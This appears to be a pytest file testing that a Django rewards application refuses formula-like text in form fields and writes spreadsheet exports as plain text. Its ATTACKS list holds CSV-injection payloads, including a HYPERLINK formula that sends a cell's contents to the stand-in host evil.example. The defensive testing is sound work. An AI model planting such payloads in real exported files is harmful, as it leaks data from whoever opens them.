"""Spreadsheet formula injection (OWASP "CSV injection"): typed text that starts like a formula
is refused on input, and whatever reaches an export stays text, never a formula that runs when
a clerk opens the file."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from rewards.core.tabular import FORMULA_MESSAGE, spreadsheet_text
from rewards.eligibility.fields import SUBMISSION_FIELDS, clean_annex3
from tests import factories

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1"]


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["occupation", "employer", "education", "hukou_place", "certificate_no"])
@pytest.mark.parametrize("attack", ATTACKS[:5])
def test_typed_text_starting_like_a_formula_is_refused(xihu, field, attack):
    form = factories.annex3(factories.make_member(union=xihu), is_migrant="是", hukou_place="安徽省阜阳市", years_in_hangzhou="6")
    form[field] = attack
    _, errors = clean_annex3(form, today=dt.date(2020, 10, 15), required=SUBMISSION_FIELDS)
    assert errors.get(field) == [FORMULA_MESSAGE] or (len(attack) > 40 and errors.get(field) == ["最多40个字。"])


@pytest.mark.django_db
def test_a_branch_starting_like_a_formula_is_refused(xihu):
    form = factories.annex3(factories.make_member(union=xihu), bank_branch='=HYPERLINK("x")中国银行杭州支行')
    _, errors = clean_annex3(form, today=dt.date(2020, 10, 15), required=SUBMISSION_FIELDS)
    assert errors["bank_branch"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_csv_cell_starting_like_a_formula_is_written_as_text(attack):
    assert spreadsheet_text(attack) == "'" + attack
    assert spreadsheet_text("中国工商银行杭州西湖支行") == "中国工商银行杭州西湖支行"
    assert spreadsheet_text("500.00") == "500.00" and spreadsheet_text(500) == 500


def test_xlsx_reports_keep_such_text_as_text():
    from rewards.reports.renderers import Column, Sheet, xlsx

    content = xlsx([Sheet(name="表", title="标题", columns=[Column("工种", 10), Column("单位", 10)], rows=[["=1+1", '=HYPERLINK("x")']])])
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert [cell.value for cell in cells] == ["=1+1", '=HYPERLINK("x")'] and {cell.data_type for cell in cells} == {"s"}


def test_the_refused_rows_workbook_keeps_the_clerks_cells_as_text():
    from rewards.batches.sheet import rejected_rows_workbook

    content = rejected_rows_workbook(
        [{"row": 5, "errors": ["职业（工种）不能以…开头"]}], {5: {"name": "张三", "occupation": "=1+1"}}, year=2020, org_name="某工会"
    )
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=1+1"]
    assert len(cells) == 1 and cells[0].data_type == "s"
